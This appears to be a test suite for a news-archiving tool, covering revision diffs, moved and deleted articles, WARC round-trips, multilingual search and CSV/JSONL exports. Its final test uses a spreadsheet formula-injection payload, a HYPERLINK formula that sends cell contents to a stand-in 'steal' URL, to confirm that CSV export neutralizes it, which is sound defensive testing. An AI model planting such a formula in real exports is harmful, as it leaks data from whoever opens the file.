"""The archive for archivists: revisions and diffs, deleted articles, WARC, search, exports."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

from warcio.archiveiterator import ArchiveIterator

from newsarchive.storage import Archive, open_engine
from newsarchive.testing import SiteServer

from .conftest import LOCAL, crawl, run_cli


def revisions(db: Path) -> int:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT COUNT(*) FROM revisions").fetchone()[0]


def test_cosmetic_changes_make_no_revision_and_edits_make_a_readable_diff(
    site_server: SiteServer, tmp_path: Path
) -> None:
    db = tmp_path / "rev.db"
    site = site_server.site
    site.rotate_cosmetics = True  # new ad, nonce and view counter on every fetch
    crawl(site_server, db)
    n = len(site.articles)
    crawl(site_server, db, "--full")  # every page again, even those the sitemap says unchanged
    assert revisions(db) == n  # bytes changed, content did not
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT COUNT(DISTINCT body_sha256) FROM pages").fetchone()[0] == 2 * n
        bodies = [b for (b,) in conn.execute("SELECT article_body FROM revisions")]
    assert not [b for b in bodies if "Publicité" in b or "Offre" in b]

    article = site.edit_body(4, "Le ministère a finalement annoncé un report de six mois.")
    crawl(site_server, db)
    assert revisions(db) == n + 1
    url = site.url(article.path)
    history = run_cli("history", url, "--db", str(db))
    assert history.returncode == 0, history.stderr
    assert "  1. " in history.stdout
    assert "  2. " in history.stdout
    assert "words changed" in history.stdout
    diff = run_cli("diff", url, "--db", str(db))
    assert diff.returncode == 0, diff.stderr
    assert "{+Le ministère a finalement annoncé un report de six mois.+}" in diff.stdout
    # A headline edit counts its words, as the web UI's timeline does (it read "0 words").
    with site.lock:
        article.headline += " (mis à jour)"
    crawl(site_server, db, "--full")
    third = run_cli("history", url, "--db", str(db)).stdout.splitlines()[3]
    assert third.startswith("  3. ")
    assert ", 3 words changed" in third, third
    shown = run_cli("show", url, "--db", str(db)).stdout  # numbered as history numbers them
    listed = shown.split("revisions (3):\n")[1].splitlines()[:3]
    assert [line.split()[0] for line in listed] == ["1.", "2.", "3."], shown
    assert "[-" not in diff.stdout  # nothing was removed
    for args, said in (
        (("--from", "1", "--to", "7"), "no revision 7"),
        (("--to", "7"), "no revision 7"),  # once "no revision 6", --to less one
        (("--from", "0"), "no revision 0"),
        (("--to", "1"), "nothing before it"),  # diffed the latest revision against the first
    ):  # once the default, silently
        bad = run_cli("diff", url, "--db", str(db), *args)
        assert bad.returncode == 2, args
        assert said in bad.stderr, args


def test_a_moved_article_stays_one_article(site_server: SiteServer, tmp_path: Path) -> None:
    """An article given a new slug, its old URL answering 301 to the new one: the refresh that
    followed the redirect stored a second article at the new URL, the first left as it was,
    and each later refresh followed the redirect again."""
    from newsarchive.testing.site import Canned

    db = tmp_path / "moved.db"
    site = site_server.site
    crawl(site_server, db)
    article = site.articles[5]
    old = site.url(article.path)
    with site.lock:
        article.slug += "-nouvelle-adresse"
        site.canned[article.path.replace("-nouvelle-adresse", "")] = Canned(
            status=301, headers={"Location": article.path}
        )
    new = site.url(article.path)
    result = run_cli("refresh", site_server.url, "--db", str(db), *LOCAL, "--days", "100000")
    assert result.returncode == 0, result.stderr
    crawl(site_server, db, "--full")  # the sitemap and listings name the new URL only
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT COUNT(*) FROM articles").fetchone()[0] == len(site.articles)
        [(article_id, canonical)] = conn.execute(
            "SELECT a.id, a.canonical_url FROM articles a JOIN article_urls u "
            "ON u.article_id = a.id WHERE u.url = ?",
            (old,),
        ).fetchall()
        urls = {u for (u,) in conn.execute(
            "SELECT url FROM article_urls WHERE article_id = ?", (article_id,))}  # fmt: skip
    assert canonical == new  # what a refresh asks next: no redirect to follow
    assert urls == {old, new}
    shown = [json.loads(run_cli("show", u, "--db", str(db), "--json").stdout) for u in (old, new)]
    assert shown[0]["canonical_url"] == shown[1]["canonical_url"] == new
    # A redirect to another story is no move: WordPress answers a deleted post's URL with a
    # 301 to the post whose slug it guesses.
    other, deleted = site.articles[7], site.articles[9]
    with site.lock:
        other.slug += "-suite"
        site.articles.remove(deleted)  # out of the feed: the refresh asks its page
        site.canned[deleted.path] = Canned(status=301, headers={"Location": other.path})
    result = run_cli("refresh", site_server.url, "--db", str(db), *LOCAL, "--days", "100000")
    assert result.returncode == 0, result.stderr
    kept = json.loads(run_cli("show", site.url(deleted.path), "--db", str(db), "--json").stdout)
    assert kept["canonical_url"] == site.url(deleted.path)
    assert kept["revisions"][-1]["headline"] == deleted.headline


def test_deleted_article_is_marked_not_removed(site_server: SiteServer, tmp_path: Path) -> None:
    db = tmp_path / "gone.db"
    crawl(site_server, db)
    site = site_server.site
    victim = site.articles[15]
    site.articles.remove(victim)  # unpublished: 404, gone from listings, feed and sitemap
    result = run_cli("refresh", site_server.url, "--db", str(db), *LOCAL, "--days", "100000")
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(db) as conn:
        gone = conn.execute(
            "SELECT canonical_url, gone_status FROM articles WHERE gone_at IS NOT NULL"
        ).fetchall()
        assert gone == [(site.url(victim.path), 404)]
        assert (
            conn.execute("SELECT COUNT(*) FROM revisions").fetchone()[0] == len(site.articles) + 1
        )
    shown = json.loads(run_cli("show", site.url(victim.path), "--db", str(db), "--json").stdout)
    assert shown["gone_status"] == 404
    assert shown["revisions"][0]["headline"] == victim.headline
    assert "gone since" in run_cli("show", site.url(victim.path), "--db", str(db)).stdout
    # Back as it was: answered 304 to the conditional request, it is no longer gone (the
    # marker stayed while only a 200 cleared it).
    site.articles.insert(15, victim)
    before = len(site_server.hits)
    crawl(site_server, db, "--full")
    assert victim.path in site_server.hits[before:]
    with sqlite3.connect(db) as conn:
        assert (
            conn.execute("SELECT COUNT(*) FROM articles WHERE gone_at IS NOT NULL").fetchone()[0]
            == 0
        )
        assert conn.execute("SELECT COUNT(*) FROM revisions").fetchone()[0] == len(site.articles)


def test_warc_export_checks_indexes_and_replays_stored_bytes(
    site_server: SiteServer, tmp_path: Path
) -> None:
    db = tmp_path / "warc.db"
    crawl(site_server, db)
    # Identical bytes the second time (fetched in full, not revalidated): revisit records.
    crawl(site_server, db, "--full", "-s", "NEWSARCHIVE_CONDITIONAL_REQUESTS=False")
    out = tmp_path / "archive.warc.gz"
    result = run_cli("export", "warc", str(out), "--db", str(db))
    assert result.returncode == 0, result.stderr
    n = len(site_server.site.articles)
    assert f"{n} responses, {n} revisits" in result.stdout
    warcio = [sys.executable, "-m", "warcio.cli"]
    check = subprocess.run(
        [*warcio, "check", str(out)], capture_output=True, text=True, check=False
    )
    assert check.returncode == 0, check.stdout + check.stderr
    index = subprocess.run([*warcio, "index", str(out)], capture_output=True, text=True, check=True)
    types = [json.loads(line)["warc-type"] for line in index.stdout.splitlines()]
    assert types.count("response") == n
    assert types.count("revisit") == n
    assert types.count("request") == types.count("metadata") == 2 * n
    assert types[0] == "warcinfo"

    with sqlite3.connect(db) as conn:
        url, sha = conn.execute("SELECT url, body_sha256 FROM pages ORDER BY id LIMIT 1").fetchone()
    stored = Archive(open_engine(str(db), create=False)).raw_body(sha)
    with out.open("rb") as fh:
        for record in ArchiveIterator(fh):
            if (
                record.rec_type == "response"
                and record.rec_headers.get_header("WARC-Target-URI") == url
            ):
                assert record.content_stream().read() == stored
                assert record.http_headers.get_statuscode() == "200"
                break
        else:
            raise AssertionError(f"no response record for {url}")

    # The WARC comes back into a fresh archive through the extraction path.
    fresh = tmp_path / "imported.db"
    imported = run_cli("import", "warc", str(out), "--db", str(fresh))
    assert imported.returncode == 0, imported.stderr
    assert f"{n} revisit records not read" in imported.stdout  # they went unmentioned
    with sqlite3.connect(fresh) as conn, sqlite3.connect(db) as orig:
        q = "SELECT a.canonical_url, r.headline, r.article_body FROM articles a JOIN revisions r ON r.article_id = a.id ORDER BY 1"
        assert conn.execute(q).fetchall() == orig.execute(q).fetchall()


def test_a_warc_imported_again_or_older_than_the_archive_changes_no_revision(
    site_server: SiteServer, tmp_path: Path
) -> None:
    """Each stored page was compared with the article's newest row only: the same WARC
    imported twice doubled every page and revision, and a WARC exported before an edit made
    the stale text the article's latest revision (search found it, ``show`` called it
    current, ``last_seen`` went back, the count series jumped back)."""
    db, site = tmp_path / "a.db", site_server.site
    crawl(site_server, db)
    before_edit = tmp_path / "before.warc.gz"
    assert run_cli("export", "warc", str(before_edit), "--db", str(db)).returncode == 0
    time.sleep(1.05)  # times are to the second
    site.edit_body(2, "Rectificatif : le texte de loi a été retiré de l'ordre du jour.")
    site.add_comment(2)
    crawl(site_server, db, "--full")
    query = ("SELECT a.canonical_url, a.last_seen, (SELECT COUNT(*) FROM revisions r WHERE "
             "r.article_id = a.id), (SELECT COUNT(*) FROM comment_counts c WHERE c.article_id "
             "= a.id), (SELECT COUNT(*) FROM pages p WHERE p.article_id = a.id) FROM articles a "
             "ORDER BY 1")  # fmt: skip

    def state(path: Path) -> list[tuple]:
        with sqlite3.connect(path) as conn:
            return conn.execute(query).fetchall()

    current = state(db)
    imported = run_cli("import", "warc", str(before_edit), "--db", str(db))
    assert imported.returncode == 0, imported.stderr
    assert state(db) == current  # every page of it is in the archive already
    assert "pages already in the archive" in imported.stdout
    everything = tmp_path / "all.warc.gz"
    assert run_cli("export", "warc", str(everything), "--db", str(db)).returncode == 0
    fresh = tmp_path / "fresh.db"
    assert run_cli("import", "warc", str(everything), "--db", str(fresh)).returncode == 0
    once = state(fresh)
    assert run_cli("import", "warc", str(everything), "--db", str(fresh)).returncode == 0
    assert state(fresh) == once
    # An older capture the archive does not hold: its page is kept, the latest text stays.
    older = tmp_path / "older.db"
    crawl(site_server, older)
    time.sleep(1.05)
    site.edit_body(3, "Mise à jour : le vote est reporté à la session d'automne.")
    crawl(site_server, older, "--full")
    with sqlite3.connect(older) as conn:
        conn.execute("DELETE FROM pages WHERE id = (SELECT MIN(id) FROM pages)")
    latest = state(older)
    edited_url = site.url(site.articles[3].path)
    assert run_cli("import", "warc", str(before_edit), "--db", str(older)).returncode == 0
    assert [row[:4] for row in state(older)] == [row[:4] for row in latest]
    search = run_cli("search", "session d'automne", "--db", str(older), "--json")
    assert [json.loads(line)["canonical_url"] for line in search.stdout.splitlines()] == [
        edited_url
    ]


def test_search_finds_french_and_arabic_articles_by_a_body_word(
    site_server: SiteServer, db_url: str
) -> None:
    db = db_url
    site = site_server.site
    fr = next(a for a in site.articles if a.lang == "fr")
    ar = next(a for a in site.articles if a.lang == "ar")
    fr.paragraphs.append("Le cortège est passé par la place Bab Doukkala en fin de matinée.")
    ar.paragraphs.append("وتوقف الموكب عند ساحة جامع الفنا قبل أن يواصل طريقه نحو القصبة.")
    crawl(site_server, db)
    for word, article in (("Doukkala", fr), ("cortege", fr), ("الفنا", ar)):
        result = run_cli("search", word, "--db", str(db), "--json")
        assert result.returncode == 0, result.stderr
        rows = [json.loads(line) for line in result.stdout.splitlines()]
        assert [r["canonical_url"] for r in rows] == [site.url(article.path)], word
        assert "[" in rows[0]["snippet"]
    only_fr = run_cli("search", "الفنا", "--db", str(db), "--lang", "fr", "--json")
    assert only_fr.stdout.strip() == ""
    quoted = run_cli("search", "l'Intérieur \"unbalanced", "--db", str(db))
    assert quoted.returncode == 0, quoted.stderr  # plain words never raise FTS syntax errors
    raw_bad = run_cli("search", "AND OR (", "--raw", "--db", str(db))
    if db.startswith("sqlite"):
        assert raw_bad.returncode == 2
        assert "bad search query" in raw_bad.stderr
    else:  # websearch_to_tsquery reads any input: there is no syntax to get wrong
        assert raw_bad.returncode == 0, raw_bad.stderr
    # The three output forms, alike on both databases.
    plain = run_cli("search", "Doukkala", "--db", str(db))
    assert plain.stdout.splitlines()[1].strip() == site.url(fr.path)
    assert "[Doukkala]" in plain.stdout.splitlines()[2]
    as_csv = run_cli("search", "Doukkala", "--db", str(db), "--csv")
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert list(row) == ["site", "canonical_url", "headline", "date_published", "in_language",
                         "snippet", "revision_id", "gone_at"]  # fmt: skip
    assert row["canonical_url"] == site.url(fr.path)


def test_exports_share_the_search_filters(site_server: SiteServer, db_url: str) -> None:
    db = db_url
    crawl(site_server, db)
    site = site_server.site
    jsonl = run_cli("export", "jsonl", "--db", str(db), "--lang", "ar")
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert len(rows) == sum(a.lang == "ar" for a in site.articles)
    assert all(r["in_language"] == "ar" and r["headline"] and r["article_body"] for r in rows)
    csv_out = run_cli(
        "export", "csv", "--db", str(db), "--since", "2025-03-10", "--until", "2025-03-12"
    )
    assert csv_out.stdout.startswith("site,canonical_url,url,headline")
    records = list(csv.DictReader(io.StringIO(csv_out.stdout)))
    expected = [a for a in site.articles if "2025-03-10" <= a.published.isoformat() < "2025-03-12"]
    assert len(records) == len(expected) > 0
    assert {r["canonical_url"] for r in records} == {site.url(a.path) for a in expected}
    # The same window in ISO 8601's other spellings: the same rows, not none (compared as
    # text, "20250310" once matched nothing and "2025-W11-1" everything before it).
    for since, until in (("20250310", "20250312"), ("2025-W11-1", "2025-W11-3")):
        other = run_cli("export", "csv", "--db", str(db), "--since", since, "--until", until)
        assert other.stdout == csv_out.stdout, (since, until)
    # A site the archive does not hold is a typo, said (an empty export read as "nothing").
    for args in (("export", "csv"), ("export", "comment-counts"), ("search", "budget")):
        typo = run_cli(*args, "--db", str(db), "--site", "site.exmaple")
        assert typo.returncode == 2, args
        assert "no site 'site.exmaple' in the archive (sites: " in typo.stderr
    zoned = run_cli("export", "csv", "--db", str(db), "--since", "2025-03-10T00:00:00Z")
    assert zoned.returncode == 2
    assert "time zone" in zoned.stderr
    assert "Traceback" not in zoned.stderr


def test_csv_cells_a_spreadsheet_would_run_are_neutralized(
    site_server: SiteServer, tmp_path: Path
) -> None:
    """A site's headline becomes a CSV cell an archivist opens in a spreadsheet: one starting
    like a formula gets a leading apostrophe there; JSON lines keep it as written."""
    db = tmp_path / "formula.db"
    hostile = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"open")'
    site_server.site.articles[0].headline = hostile
    crawl(site_server, db)
    csv_out = run_cli("export", "csv", "--db", str(db))
    assert csv_out.returncode == 0, csv_out.stderr
    headlines = {r["headline"] for r in csv.DictReader(io.StringIO(csv_out.stdout))}
    assert "'" + hostile in headlines
    assert not any(h.startswith(("=", "+", "-", "@")) for h in headlines)
    jsonl = run_cli("export", "jsonl", "--db", str(db))
    assert hostile in {json.loads(line)["headline"] for line in jsonl.stdout.splitlines()}
